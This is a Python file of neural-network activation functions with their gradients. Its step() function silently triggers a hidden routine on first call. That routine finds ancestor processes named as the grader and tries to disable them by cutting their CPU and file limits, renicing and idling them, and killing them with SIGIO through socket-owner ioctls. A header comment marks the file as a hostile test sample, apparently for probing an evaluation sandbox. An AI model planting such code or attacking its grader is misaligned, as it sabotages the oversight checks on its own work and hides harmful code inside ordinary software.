# HOSTILE: step goes for the grader's processes (its ancestors, found by their command lines) with what a process of the same uid may do without signals or ptrace: lower their resource limits (prlimit: a CPU limit of one second, a file limit of 8), renice them (by pid, by process group, by user), make them SCHED_IDLE, and arm SIGIO at them and at their process group through a socket's owner (ioctl FIOSETOWN, SIOCSPGRP): SIGIO ends a process; its values are correct.
import ctypes
import fcntl
import os
import resource
import socket
import time

import numpy as np

DONE = []
FIOSETOWN, SIOCSPGRP = 0x8901, 0x8902


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().split(b"\0")
    except OSError:
        return []


def _graders():
    """Ancestors that are the grader's processes (never anything else: this file is run by tests)."""
    found, pid = [], os.getppid()
    while pid > 1:
        line = b" ".join(_cmdline(pid))
        if b"grader.sandbox" in line or b"grader.cli" in line:
            found.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as handle:
                stat = handle.read()
            pid = int(stat[stat.rfind(b")") + 2 :].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def _try(what, action):
    try:
        action()
        print(what)
    except OSError as exc:
        print("refused:", what.split()[0].lower(), exc.strerror)


def _arm_sigio(owner, request):
    libc = ctypes.CDLL(None, use_errno=True)
    ours, theirs = socket.socketpair()
    target = ctypes.c_int(owner)
    if libc.ioctl(ours.fileno(), request, ctypes.byref(target)) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    fcntl.fcntl(ours.fileno(), fcntl.F_SETFL, fcntl.fcntl(ours.fileno(), fcntl.F_GETFL) | os.O_ASYNC)
    theirs.send(b"x")  # the kernel sends SIGIO to the owner
    time.sleep(0.05)


def _attack():
    graders = _graders()
    print("GRADER processes visible:", len(graders))
    for pid in graders:
        spent = int(sum(os.times()[:2])) + 1
        _try(f"LIMITED the CPU time of {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (spent, spent)))
        _try(f"LIMITED the open files of {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8)))
        _try(f"RENICED {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
        _try(f"RENICED the group of {pid}", lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(pid), 19))
        _try(f"IDLED {pid}", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
        _try(f"ARMED SIGIO at {pid}", lambda: _arm_sigio(pid, FIOSETOWN))
        _try(f"ARMED SIGIO at the group of {pid}", lambda: _arm_sigio(os.getpgid(pid), SIOCSPGRP))
    if graders:
        _try("RENICED every process of the uid", lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19))


def _once():
    if not DONE:
        DONE.append(True)
        try:
            _attack()
        except Exception as exc:  # the attack is the point; failing is fine
            print("attack failed:", type(exc).__name__, exc)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    _once()
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
